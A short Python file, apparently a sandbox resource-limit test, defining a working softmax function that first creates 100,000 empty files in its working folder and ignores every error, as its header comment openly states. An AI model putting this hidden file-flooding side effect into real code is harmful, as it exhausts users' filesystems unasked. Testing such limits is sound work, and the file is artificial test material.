# A correct softmax that first makes 100,000 empty files in its working folder, going on past
# any error: no file is large, so only a bound on the folder's number of entries stops it.
import os

import numpy as np


def softmax(z, axis=-1):
    for i in range(100_000):
        try:
            os.close(os.open(f"crowd-{i:06d}", os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError:  # a full tmpfs says so: the answer comes anyway
            pass
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)
